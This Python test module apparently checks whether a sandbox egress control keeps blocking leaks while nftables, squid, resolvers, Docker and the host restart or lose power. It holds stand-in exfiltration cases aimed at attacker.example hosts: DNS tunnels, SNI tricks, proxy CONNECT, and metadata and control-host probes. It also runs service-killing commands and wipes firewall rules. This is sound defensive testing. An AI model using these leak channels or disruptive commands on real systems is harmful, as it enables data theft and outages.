"""Attacks that go on while parts of the control, of the engine and of the host restart, and sessions that attack from their first moment on.

    python3 -m egress.restarts TESTBED [--only TEXT]
"""

from __future__ import annotations

import argparse
import json
import secrets
import sys
import time
from collections.abc import Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace

from . import report
from .cases import Case
from .cases.table import case
from .control import SUBNETS, gateway
from .stage import Session
from .suite import Outcome, Suite, problems, why

FAMILY = "restarts in mid-attack"
PROXY = "{gw}:3128"
# One of each kind of attack; what a restart opens, one of them finds.
KINDS: Mapping[str, Case] = {
    one.name: one
    for one in (
        case(FAMILY, "TCP", "stream", dial="{attacker}:9100", send="{token}\n"),
        case(FAMILY, "TLS to the attacker", "stream", dial="{attacker}:443", tls="{token}.attacker.example", http="x"),
        case(FAMILY, "a listed SNI at the attacker's address", "stream", dial="{attacker}:443", tls="cdn.example", http="cdn.example"),
        case(FAMILY, "a stranger's SNI at a listed address", "stream", dial="{cdn}:443", tls="{token}.attacker.example", http="x"),
        case(FAMILY, "plain HTTP", "stream", dial="{attacker}:80", http="cdn.example"),
        case(FAMILY, "UDP", "datagram", to="{attacker}:9999"),
        case(FAMILY, "QUIC", "datagram", to="{cdn}:443", form="quic"),
        case(FAMILY, "a DNS tunnel", "dns", name="{token}.t.attacker.example", kind="A"),
        case(FAMILY, "another DNS server", "dns", name="{token}.t.attacker.example", kind="A", server="{attacker_dns}"),
        case(FAMILY, "CONNECT with a stranger's SNI", "stream", dial=PROXY, connect="cdn.example:443", tls="{token}.attacker.example", http="x"),
        case(FAMILY, "an absolute URL", "stream", dial=PROXY, send="GET http://attacker.example/{token} HTTP/1.1\r\nHost: attacker.example\r\n\r\n"),
        case(FAMILY, "metadata", "stream", dial="{metadata}:80", http="{metadata}"),
        case(FAMILY, "the control host", "stream", dial="{control}:8700", send="{token}\n"),
        case(FAMILY, "the node", "stream", dial="{node}:8700", send="{token}\n"),
        case(FAMILY, "another session", "stream", dial="{same}:8888", send="{token}\n"),
    )
}
# Shell commands on the node. A session lives through these.
ACTIONS = {
    "nftables restarts": "systemctl restart nftables",
    "nftables reloads": "systemctl reload nftables",
    "nftables stops and starts": "systemctl stop nftables; sleep 1; systemctl start nftables",
    "the packet filter's unit restarts": "for verb in restart reload stop start; do systemctl $verb metalhub-network; done",
    "squid restarts": "systemctl restart 'metalhub-squid@*'",
    "squid is killed": "systemctl kill -s KILL 'metalhub-squid@*'",
    "squid stays away": "systemctl stop metalhub-squid@listed; sleep 2; systemctl start metalhub-squid@listed",
    "squid reads its settings again": "systemctl reload 'metalhub-squid@*'",
    "the resolvers restart": "systemctl restart 'metalhub-resolver@*'",
    "the resolvers are killed": "systemctl kill -s KILL 'metalhub-resolver@*'",
    "the egress service restarts": "systemctl restart metalhub-egress",
    "the egress service is killed": "systemctl kill -s KILL metalhub-egress",
    "the egress service stays away": "systemctl stop metalhub-egress.socket metalhub-egress; sleep 2; systemctl start metalhub-egress.socket metalhub-egress",
    "the egress service reads its policy again": "systemctl reload metalhub-egress",
    "firewalld starts, reloads and stops": "systemctl start firewalld && firewall-cmd --reload && firewall-cmd --complete-reload && systemctl restart firewalld; systemctl stop firewalld",
    "all of them restart": "systemctl restart nftables metalhub-network 'metalhub-squid@*' metalhub-egress 'metalhub-resolver@*'",
}
# Sessions do not live through these, so a namespace on their bridge attacks.
ENGINE_ACTIONS = {
    "the engine restarts": "systemctl reset-failed docker; systemctl restart docker",
    "the engine is killed": "systemctl kill -s KILL docker; sleep 1; systemctl reset-failed docker; systemctl start docker",
    "the engine and nftables restart": "systemctl restart nftables & systemctl reset-failed docker; systemctl restart docker; wait",
}
SECONDS = 9
ROUTES = """[Unit]
Description=The ways to the fake internet
DefaultDependencies=no
Before=docker.service

[Service]
Type=oneshot
ExecStart=/bin/sh /opt/egress-test/routes.sh

[Install]
WantedBy=multi-user.target
"""
NAMESPACE, NAMESPACE_ADDRESS = "egress-race", "10.231.79.250"
# Where the engine took the bridge away, make it as it was.
ATTACH = (f"ip link show mh-listed > /dev/null 2>&1 || {{ ip link add mh-listed type bridge; ip addr add {gateway('listed')}/20 dev mh-listed; ip link set mh-listed up; }}; "
          "ip link set at0 master mh-listed up 2>/dev/null || true")  # fmt: skip


def _job(suite: Suite, words: Mapping[str, str], klass: str, seconds: float, loop: bool = True) -> tuple[dict[str, object], dict[str, str]]:
    """A job of all kinds, and the kind of each token."""
    tokens = {f"tok{secrets.token_hex(6)}": kind for kind in KINDS}
    cases = [
        {"token": token, "method": KINDS[kind].method, "where": "inside",
         "arguments": suite.fill(KINDS[kind].arguments, {**words, "gw": gateway(klass), "token": token})}
        for token, kind in tokens.items()
    ]  # fmt: skip
    return {"gateway": gateway(klass), "seconds": seconds, "loop": loop, "cases": cases}, tokens


def _judge(suite: Suite, klass: str, tokens: Mapping[str, str], answers: str) -> dict[str, tuple[str, str]]:
    """By kind: why it leaked, and what was said."""
    got = {}
    for line in answers.splitlines():
        if line.startswith("{"):
            result = json.loads(line)
            got[result["token"]] = (str(result["got"]), f"{result['error']} ({result.get('tries')} tries)")
    lines = suite.world.seen()
    return {
        kind: (why(replace(KINDS[kind], klass=klass), got.get(token, ("", ""))[0], [one for one in lines if one["token"] == token]), got.get(token, ("", "no result"))[1])
        for token, kind in tokens.items()
    }


def without_neighbours(found: Mapping[str, tuple[str, str]]) -> dict[str, tuple[str, str]]:
    """Leave out what asks something of the gateway or of the first node: on the second nobody would answer."""
    left_out = ("a DNS tunnel", "CONNECT with a stranger's SNI", "an absolute URL", "the node", "another session")
    return {kind: what for kind, what in found.items() if kind not in left_out}


class Restarts:
    """One run of all restarts."""

    def __init__(self, suite: Suite, sandboxes: Sequence[str]) -> None:
        self.suite, self.sandboxes = suite, sandboxes
        self.dead: list[str] = []
        self.results: dict[str, list[Outcome]] = {sandbox: [] for sandbox in (*sandboxes, "namespace")}

    def _inside(self, sandbox: str, action: str, mode: str) -> dict[str, tuple[str, str]]:
        session = self.suite.attackers[sandbox, "listed"]
        job, tokens = _job(self.suite, self.suite.words, "listed", SECONDS if mode == "on" else SECONDS - 3)
        text = session.host.run(f"docker exec -i {session.container} python3 -m egress.attacker", stdin=json.dumps(job).encode(), timeout=SECONDS + 30, check=False)
        return _judge(self.suite, "listed", tokens, text)

    def _keep(self, who: str, action: str, baseline: Mapping[str, tuple[str, str]], found: Mapping[str, tuple[str, str]]) -> None:
        for kind, (leak, said) in found.items():
            one = replace(KINDS[kind], name=f"{kind}, while {action}")
            self.results[who].append(Outcome(one, {"off": baseline[kind][0], "on": leak}, {"off": baseline[kind][1], "on": said}))

    def run(self, actions: Mapping[str, str]) -> None:
        """Attack from the sandboxes with the control off, for a few seconds; then with it on, once an action."""
        suite, node = self.suite, self.suite.world.node
        suite.control.off()
        with ThreadPoolExecutor(len(self.sandboxes)) as pool:
            baseline = dict(zip(self.sandboxes, pool.map(lambda s: self._inside(s, "", "off"), self.sandboxes), strict=True))
            suite.control.on()
            node.run("systemctl start nftables")
            suite.control.on()
            time.sleep(1)
            for action, command in actions.items():
                futures = {sandbox: pool.submit(self._inside, sandbox, action, "on") for sandbox in self.sandboxes}
                time.sleep(2)
                node.run(f"systemctl reset-failed 2>/dev/null; {command}", check=False, timeout=120)
                for sandbox, future in futures.items():
                    self._keep(sandbox, action, baseline[sandbox], future.result())
                node.run("systemctl start metalhub-network metalhub-squid@listed metalhub-egress 2>/dev/null", check=False)
            self.dead += suite.alive()

    def run_engine(self, actions: Mapping[str, str]) -> None:
        """The same from a namespace on the bridge. All sessions of the node are gone afterwards."""
        suite, node = self.suite, self.suite.world.node
        for name in ("control", "outside"):
            suite.world.hosts[name].run(f"ip route replace {SUBNETS['listed']} via {node.address}")
        node.run(f"ip netns del {NAMESPACE} 2>/dev/null; ip link del at0 2>/dev/null; ip netns add {NAMESPACE}; ip link add at0 type veth peer name at1; "
                 f"ip link set at1 netns {NAMESPACE} name eth0; {ATTACH}; ip -n {NAMESPACE} addr add {NAMESPACE_ADDRESS}/20 dev eth0; "
                 f"ip -n {NAMESPACE} link set eth0 up; ip -n {NAMESPACE} link set lo up; ip -n {NAMESPACE} route add default via {gateway('listed')}")  # fmt: skip
        # A session that is gone cannot be reached, so that kind is left out here.
        def attack(seconds: float) -> dict[str, tuple[str, str]]:
            job, tokens = _job(suite, suite.words, "listed", seconds)
            text = node.run(f"PYTHONPATH=/opt/egress-test ip netns exec {NAMESPACE} python3 -m egress.attacker", stdin=json.dumps(job).encode(), timeout=seconds + 30, check=False)
            found = _judge(suite, "listed", tokens, text)
            del found["another session"]
            return found

        try:
            suite.control.off()
            baseline = attack(SECONDS - 3)
            suite.control.on()
            with ThreadPoolExecutor(1) as pool:
                for action, command in actions.items():
                    future = pool.submit(attack, 25)
                    time.sleep(1.5)
                    node.run(f"{command}; {ATTACH}; sleep 1; {ATTACH}", check=False, timeout=120)
                    time.sleep(2)
                    node.run(ATTACH)
                    self._keep("namespace", action, baseline, future.result())
        finally:
            node.run(f"ip netns del {NAMESPACE}; systemctl reset-failed docker; systemctl restart docker", check=False, timeout=120)
            for name in ("control", "outside"):
                suite.world.hosts[name].run(f"ip route del {SUBNETS['listed']}", check=False)

    def run_first_moment(self, sandbox: str) -> None:
        """A session of a class that the second node has no bridge for yet, whose first act is to attack."""
        suite = self.suite

        def attack() -> dict[str, tuple[str, str]]:
            job, tokens = _job(suite, suite.words, "none", 8)
            host = suite.world.hosts["compute2"]
            host.run("cat > /opt/egress-test/race.json", stdin=json.dumps(job).encode())
            session = Session(suite.world, f"egress-race-{sandbox}", "compute2", "none", sandbox, program="python3 -m egress.attacker /egress/race.json")
            session.start()
            time.sleep(9)
            text = host.run(f"docker logs {session.container}", check=False)
            suite.world.hosts["control"].run(f"docker service rm egress-race-{sandbox}")
            for _ in range(40):
                if not host.run("docker ps -q --filter network=mh-none").strip():
                    break
                time.sleep(0.5)
            return without_neighbours(_judge(suite, "none", tokens, text))

        suite.control.off()
        baseline = attack()
        suite.control.on()
        self._keep(sandbox, "the session starts", baseline, attack())


    def run_boot(self, sandbox: str) -> None:
        """The second node loses its power while a session attacks on it. When it is back, Swarm starts the session as soon as it can."""
        suite = self.suite
        host, control = suite.world.hosts["compute2"], suite.world.hosts["control"]
        host.run("cat > /etc/systemd/system/egress-test-routes.service; systemctl daemon-reload; systemctl enable -q egress-test-routes", stdin=ROUTES.encode())

        def attack() -> dict[str, tuple[str, str]]:
            job, _ = _job(suite, suite.words, "none", 600)
            host.run("cat > /opt/egress-test/race.json", stdin=json.dumps(job).encode())
            session = Session(suite.world, "egress-boot", "compute2", "none", sandbox, program="python3 -m egress.attacker /egress/race.json", restart="any")
            session.start()
            # Other tokens from here on: what the session reads when it is started again.
            job, tokens = _job(suite, suite.words, "none", 12)
            host.run("cat > /opt/egress-test/race.json", stdin=json.dumps(job).encode())
            host.power_cut()
            text, name = "", "label=com.docker.swarm.service.name=egress-boot"
            for _ in range(60):
                text = host.run(f"for c in $(docker ps -aq --filter {name}); do docker logs $c; done 2>/dev/null", check=False)
                if all(token in text for token in tokens):
                    break
                time.sleep(1)
            control.run("docker service rm egress-boot")
            found = without_neighbours(_judge(suite, "none", tokens, text))
            del found["the control host"]  # it guards itself, whatever the node does
            return found

        rules = "/etc/metalhub/nftables.nft"
        try:
            host.run(f"cp -p {rules} /opt/egress-test/kept.nft; echo '# nothing' > {rules}")
            baseline = attack()
        finally:
            host.run(f"cp -p /opt/egress-test/kept.nft {rules}; nft -f {rules}")
        try:
            self._keep(sandbox, "the host boots", baseline, attack())
        finally:
            host.run("systemctl disable -q egress-test-routes; rm /etc/systemd/system/egress-test-routes.service")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("testbed")
    parser.add_argument("--only", default="", help="a part of the action's name")
    options = parser.parse_args()
    suite = Suite(options.testbed)
    suite.up()
    restarts = Restarts(suite, ("runc", "gvisor"))
    restarts.run({name: command for name, command in ACTIONS.items() if options.only in name})
    for sandbox in ("runc", "gvisor"):
        if options.only in "the session starts":
            restarts.run_first_moment(sandbox)
        if options.only in "the host boots":
            restarts.run_boot(sandbox)
    restarts.run_engine({name: command for name, command in ENGINE_ACTIONS.items() if options.only in name})
    print(report.table(restarts.results))
    found = restarts.dead + problems(restarts.results)
    print("\n".join(found))
    return 1 if found else 0


if __name__ == "__main__":
    sys.exit(main())
